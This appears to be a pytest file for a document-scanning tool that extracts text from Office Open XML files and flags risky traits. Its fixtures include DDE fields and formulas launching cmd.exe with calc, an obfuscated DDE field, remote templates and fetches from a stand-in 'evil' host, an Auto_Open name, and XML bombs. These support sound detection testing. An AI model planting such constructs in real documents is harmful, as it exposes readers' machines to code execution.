"""Office Open XML: each trick of a document is a few parts in a zip."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.extract.formats import Fact, Member
from gateway.extract.formats.ooxml import read
from gateway.extract.room import Full, Room
from gateway.reading import Blind, Link, Reason, Text, Trait, Zone
from gateway.traits import Mark

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NAMES = " ".join(f'xmlns:{prefix}="{prefix}"' for prefix in ("w", "r", "v", "wp", "wps", "o", "a", "p", "x", "d"))
BODY = f"<w:document {NAMES}><w:body>%s</w:body></w:document>"
SHEET = "<worksheet><sheetData>%s</sheetData></worksheet>"


def zipped(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(*each: tuple[str, str, str]) -> str:
    """Relations by id, last word of the type, target; addresses are external."""
    lines = []
    for identity, kind, target in each:
        mode = ' TargetMode="External"' if ":" in target or target.startswith("\\") else ""
        lines.append(f'<Relationship Id="{identity}" Type="{RELATIONS}{kind}" Target="{target}"{mode}/>')
    return f"<Relationships>{''.join(lines)}</Relationships>"


def xml(root: str, inner: str, attributes: str = "") -> str:
    """A part with this root."""
    return f"<{root} {NAMES} {attributes}>{inner}</{root}>"


def found(parts: dict[str, str | bytes]) -> list[Fact]:
    return list(read(zipped(parts), "1", Room()))


def document(body: str, *links: tuple[str, str, str], **more: str | bytes) -> dict[str, str | bytes]:
    return {
        "word/document.xml": BODY % body,
        "word/_rels/document.xml.rels": relations(*links),
        **{f"word/{name.replace('_', '.')}": content for name, content in more.items()},
    }


def wide(text: str) -> bytes:
    """A string of a binary workbook."""
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def text_in(facts: list[Fact], zone: Zone) -> str:
    return "".join(fact.content for fact in facts if isinstance(fact, Text) and fact.zone is zone)


def run(text: str, properties: str = "") -> str:
    return f"<w:r>{properties}<w:t>{text}</w:t></w:r>"


PHRASE = "BÍ MẬT"
ZONES: dict[str, tuple[dict[str, str | bytes], Zone]] = {
    "the body": (document(f"<w:p>{run(PHRASE)}</w:p>"), Zone.ATTACHMENT),
    "the body, cut into runs": (document(f"<w:p>{run('BÍ')}{run(' MẬ')}{run('T')}</w:p>"), Zone.ATTACHMENT),
    "another prefix": (
        {"word/document.xml": f'<x:document xmlns:x="w"><x:t>{PHRASE}</x:t></x:document>'},
        Zone.ATTACHMENT,
    ),
    "a part of another name": ({"doc/x.dat": BODY % run(PHRASE)}, Zone.ATTACHMENT),
    "UTF-16": ({"word/document.xml": (BODY % run(PHRASE)).encode("utf-16")}, Zone.ATTACHMENT),
    "deleted, tracked": (document(f"<w:del><w:r><w:delText>{PHRASE}</w:delText></w:r></w:del>"), Zone.ATTACHMENT),
    "characters by number": (document('<w:r><w:sym w:char="F042"/><w:t>Í MẬT</w:t></w:r>'), Zone.ATTACHMENT),
    "a page's header": ({"word/header1.xml": f"<w:hdr xmlns:w='w'>{run(PHRASE)}</w:hdr>"}, Zone.PAGE_HEADER),
    "a page's footer": ({"word/footer1.xml": f"<w:ftr xmlns:w='w'>{run(PHRASE)}</w:ftr>"}, Zone.PAGE_FOOTER),
    "a footnote": ({"word/f.xml": f"<w:footnotes xmlns:w='w'>{run(PHRASE)}</w:footnotes>"}, Zone.NOTE),
    "a comment": ({"word/c.xml": f"<w:comments xmlns:w='w'>{run(PHRASE)}</w:comments>"}, Zone.COMMENT),
    "a text box": (
        document(f"<w:r><wps:txbx><w:txbxContent>{run(PHRASE)}</w:txbxContent></wps:txbx></w:r>"),
        Zone.TEXT_BOX,
    ),
    "a text box of VML": (
        document(f"<v:textbox><w:txbxContent>{run(PHRASE)}</w:txbxContent></v:textbox>"),
        Zone.TEXT_BOX,
    ),
    "a watermark": (document(f'<v:shape><v:textpath string="{PHRASE}"/></v:shape>'), Zone.TEXT_BOX),
    "hidden letters": (document(f"<w:p>{run(PHRASE, '<w:rPr><w:vanish/></w:rPr>')}</w:p>"), Zone.HIDDEN),
    "a title": ({"docProps/core.xml": xml("coreProperties", f"<d:title>{PHRASE}</d:title>")}, Zone.PROPERTY),
    "a property of one's own": (
        {"docProps/custom.xml": xml("Properties", f"<lpwstr>{PHRASE}</lpwstr>")},
        Zone.PROPERTY,
    ),
    "a document variable": (
        {"word/settings.xml": xml("w:settings", f"<w:docVar w:name='a' w:val='{PHRASE}'/>")},
        Zone.PROPERTY,
    ),
    "what stands for a picture": (document(f"<wp:docPr xmlns:wp='wp' descr='{PHRASE}'/>"), Zone.PROPERTY),
    "data of a form": ({"customXml/item1.xml": f"<data><a>{PHRASE}</a></data>"}, Zone.PROPERTY),
    "a slide": ({"ppt/slides/slide1.xml": xml("p:sld", f"<a:t>{PHRASE}</a:t>")}, Zone.ATTACHMENT),
    "a slide's notes": ({"ppt/n.xml": xml("p:notes", f"<a:t>{PHRASE}</a:t>")}, Zone.NOTE),
    "a shared string": (
        {
            "xl/worksheets/sheet1.xml": SHEET % '<row><c t="s"><v>0</v></c></row>',
            "xl/sharedStrings.xml": xml("sst", "<si><r><t>BÍ </t></r><r><t>MẬT</t></r></si>"),
        },
        Zone.ATTACHMENT,
    ),
    "a string in its cell": (
        {"xl/s.xml": SHEET % f'<row><c t="inlineStr"><is><t>{PHRASE}</t></is></c></row>'},
        Zone.ATTACHMENT,
    ),
    "a hidden row": ({"xl/s.xml": SHEET % f'<row hidden="1"><c t="str"><v>{PHRASE}</v></c></row>'}, Zone.ATTACHMENT),
    "a string of no cell": ({"xl/sharedStrings.xml": f"<sst><si><t>{PHRASE}</t></si></sst>"}, Zone.HIDDEN),
    "a sheet's header": (
        {"xl/s.xml": xml("worksheet", f'<oddHeader>&amp;C&amp;"Arial"{PHRASE}</oddHeader>')},
        Zone.PAGE_HEADER,
    ),
    "a sheet's name": ({"xl/workbook.xml": xml("workbook", f"<sheet name='{PHRASE}'/>")}, Zone.PROPERTY),
    "a shape on a sheet": ({"xl/d.xml": xml("x:wsDr", f"<a:t>{PHRASE}</a:t>")}, Zone.TEXT_BOX),
    "a binary sheet": (
        {"xl/worksheets/sheet1.bin": b"\x06\x18" + bytes(8) + wide(PHRASE)},
        Zone.ATTACHMENT,
    ),
}


@pytest.mark.parametrize(("parts", "zone"), ZONES.values(), ids=ZONES)
def test_a_phrase_is_found_where_it_stands(parts: dict[str, str | bytes], zone: Zone) -> None:
    assert PHRASE in text_in(found(parts), zone)


def field(*codes: str) -> str:
    instructions = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:fldChar w:fldCharType="begin"/>{instructions}<w:fldChar w:fldCharType="end"/>'


def split(code: str) -> str:
    return field(*code)


QUOTED = "QUOTE" + "".join(f" {ord(letter)}" for letter in "DDEAUTO")
NESTED = (
    f'<w:fldChar w:fldCharType="begin"/>{field(QUOTED)}<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
)
MARKS: dict[str, tuple[dict[str, str | bytes], set[str]]] = {
    "nothing": (document(run("a")), set()),
    "a template of the reader's own machine": (
        document("", ("1", "attachedTemplate", "file:///C:\\Users\\a.dotm")),
        set(),
    ),
    "a link of the text": (document("", ("1", "hyperlink", "http://a.vn/")), set()),
    "a picture from the web": (document("", ("1", "image", "http://a.vn/x.png")), set()),
    "a macro project": (document("", vbaProject_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), {Mark.MACRO}),
    "a macro project of another name": (document("", ("1", "vbaProject", "x.bin"), x_bin=b"x"), {Mark.MACRO}),
    "DDE": (document(field('DDEAUTO c:\\\\cmd.exe "/k calc"')), {Mark.DDE}),
    "DDE, a letter a run": (document(split("DDEAUTO cmd")), {Mark.DDE}),
    "DDE in numbers": (document(NESTED), {Mark.DDE}),
    "DDE as a simple field": (document('<w:fldSimple w:instr="DDE cmd /c"/>'), {Mark.DDE}),
    "DDE in a footnote": ({"word/f.xml": f"<w:footnotes xmlns:w='w'>{field('DDE x y')}</w:footnotes>"}, {Mark.DDE}),
    "a remote template": (document("", ("1", "attachedTemplate", "http://evil/a.dotm")), {Mark.REMOTE_TEMPLATE}),
    "a template on a share": (document("", ("1", "attachedTemplate", "\\\\evil\\a.dotm")), {Mark.REMOTE_TEMPLATE}),
    "a linked object": (document("", ("1", "oleObject", "mhtml:http://evil/a!x")), {Mark.EXTERNAL_LINK}),
    "a linked frame": (document("", ("1", "frame", "https://evil/")), {Mark.EXTERNAL_LINK}),
    "a linked document": (document("", ("1", "subDocument", "https://evil/")), {Mark.EXTERNAL_LINK}),
    "a field that fetches": (document(field('INCLUDEPICTURE "http://evil/a.png" \\d')), {Mark.EXTERNAL_LINK}),
    "an embedded object": (document('<o:OLEObject Type="Embed" ProgID="Package"/>'), {Mark.OLE_OBJECT}),
    "an equation": (document('<o:OLEObject Type="Embed" ProgID="Equation.3"/>'), {Mark.OLE_OBJECT, Mark.EQUATION}),
    "a control": ({"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="a" ax:classid="{0}"/>'}, {Mark.ACTIVEX}),
    "a slide that runs a program": (
        {"ppt/s.xml": xml("p:sld", '<a:hlinkClick action="ppaction://program"/>')},
        {Mark.LAUNCH},
    ),
    "DDE of a workbook": (
        {"xl/e.xml": xml("externalLink", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')},
        {Mark.DDE},
    ),
    "DDE as a formula": ({"xl/s.xml": SHEET % "<row><c><f>cmd|'/c calc'!A0</f></c></row>"}, {Mark.DDE}),
    "DDE as a text": ({"xl/s.xml": SHEET % "<row><c t='str'><v>=cmd|'/c calc'!A0</v></c></row>"}, {Mark.DDE}),
    "a macro sheet": ({"xl/macrosheets/s.xml": "<xm:macrosheet xmlns:xm='x'/>"}, {Mark.XLM_MACRO}),
    "a macro sheet by its relation": (
        {"xl/_rels/workbook.xml.rels": relations(("1", "xlMacrosheet", "a.bin"))},
        {Mark.XLM_MACRO},
    ),
    "a name that runs": (
        {"xl/workbook.xml": xml("workbook", "<definedName name='_xlnm.Auto_Open'>A</definedName>")},
        {Mark.XLM_MACRO, Mark.AUTO_MACRO},
    ),
    "a very hidden sheet": (
        {"xl/workbook.xml": xml("workbook", "<sheet name='a' state='veryHidden'/>")},
        {Mark.HIDDEN_SHEET},
    ),
    "a formula that fetches": (
        {"xl/s.xml": SHEET % '<row><c><f>WEBSERVICE("http://evil/")</f></c></row>'},
        {Mark.EXTERNAL_LINK},
    ),
    "a connection": ({"xl/connections.xml": xml("connections", "<webPr url='http://evil/'/>")}, {Mark.EXTERNAL_LINK}),
    "DDE of a binary workbook": ({"xl/e.bin": b"\xe8\x02\x14\x01\0" + wide("cmd") + wide("/c")}, {Mark.DDE}),
}


@pytest.mark.parametrize(("parts", "expected"), MARKS.values(), ids=MARKS)
def test_marks(parts: dict[str, str | bytes], expected: set[str]) -> None:
    assert {fact.word for fact in found(parts) if isinstance(fact, Trait)} == expected


def test_links_have_the_text_over_them() -> None:
    body = '<w:hyperlink r:id="1">' + run("nhấp") + run(" đây") + "</w:hyperlink>" + field('HYPERLINK "http://b.vn/"')
    facts = found(document(body, ("1", "hyperlink", "http://a.vn/"), ("2", "hyperlink", "http://c.vn/")))
    links = {fact.target: fact.text for fact in facts if isinstance(fact, Link)}
    assert links == {"http://a.vn/": "nhấp đây", "http://b.vn/": "", "http://c.vn/": ""}


@pytest.mark.parametrize("name", ["word/media/image1.png", "word/embeddings/x.bin", "word/afchunk.mht", "a/b/c"])
def test_a_program_in_any_part_is_a_member(name: str) -> None:
    facts = found({**document(""), name: b"MZ" + bytes(80)})
    assert [fact.names for fact in facts if isinstance(fact, Member)] == [(name.rpartition("/")[2],)]


def test_a_part_taken_in_whole_is_a_member_though_it_is_xml() -> None:
    facts = found(document("", ("1", "aFChunk", "chunk.htm"), chunk_htm="<html><body>x</body></html>"))
    assert [fact.names for fact in facts if isinstance(fact, Member)] == [("chunk.htm",)]


def test_two_parts_of_one_name_are_both_read() -> None:
    data = zipped({"word/document.xml": BODY % run("một"), "word/documenT.xml": BODY % run("hai")})
    data = data.replace(b"word/documenT.xml", b"word/document.xml")
    text = text_in(list(read(data, "1", Room())), Zone.ATTACHMENT)
    assert "một" in text
    assert "hai" in text


def test_text_of_a_legacy_font_is_read_twice() -> None:
    font = '<w:rPr><w:rFonts w:ascii=".VnTime"/></w:rPr>'
    facts = found(document(f"<w:p>{run('Céng hßa x· héi chñ nghÜa ViÖt Nam', font)}</w:p>"))
    assert any(isinstance(fact, Text) and "Cộng hòa xã hội chủ nghĩa Việt Nam" in fact.content for fact in facts)
    assert Mark.LEGACY_FONT in {fact.word for fact in facts if isinstance(fact, Trait)}


def test_a_legacy_font_that_is_only_named_is_no_mark() -> None:
    font = '<w:rPr><w:rFonts w:ascii=".VnTime"/></w:rPr>'
    facts = found(document(f"<w:p>{run('Cộng hòa xã hội là và', font)}</w:p>"))
    assert not [fact for fact in facts if isinstance(fact, Trait)]


def test_dates_are_written_as_dates() -> None:
    styles = '<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    sheet = SHEET % '<row><c s="1"><v>46387</v></c><c><v>46387</v></c></row>'
    assert text_in(found({"xl/styles.xml": styles, "xl/s.xml": sheet}), Zone.ATTACHMENT) == "31/12/2026\t46387\n"


BOMBS = {
    "entities": ('<!DOCTYPE a [<!ENTITY b "ha">]><w:document>&b;</w:document>', Reason.BOMB),
    "depth": ("<a>" * 3000, Reason.TOO_DEEP),
    "size": ("<a>" + " " * 9_000_000, Reason.BOMB),
}


@pytest.mark.parametrize(("part", "reason"), BOMBS.values(), ids=BOMBS)
def test_bombs_are_told_as_such(part: str, reason: Reason) -> None:
    with pytest.raises(Full) as full:
        found({"word/document.xml": part})
    assert full.value.reason is reason


def test_a_million_cells_of_one_long_string_are_stopped() -> None:
    parts: dict[str, str | bytes] = {
        "xl/sharedStrings.xml": f"<sst><si><t>{'A' * 32000}</t></si></sst>",
        "xl/s.xml": SHEET % ("<row><c t='s'><v>0</v></c></row>" * 3000),
    }
    with pytest.raises(Full):
        found(parts)


def test_a_broken_part_is_told_and_the_others_are_read() -> None:
    facts = found({"word/broken.xml": "<w:document><w:t>half</w:t>", **document(run("whole"))})
    assert [fact.reason for fact in facts if isinstance(fact, Blind)] == [Reason.CORRUPT]
    assert "whole" in text_in(facts, Zone.ATTACHMENT)
    assert "half" in text_in(facts, Zone.ATTACHMENT)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=60), st.integers(0, 600))
def test_any_bytes_end_in_facts_or_an_exception(patch: bytes, at: int) -> None:
    data = bytearray((BODY % (run("a") + field("DDE"))).encode())
    data[at : at + len(patch)] = patch
    for fact in found({"word/document.xml": bytes(data)}):
        assert isinstance(fact, (Text, Link, Trait, Blind, Member))
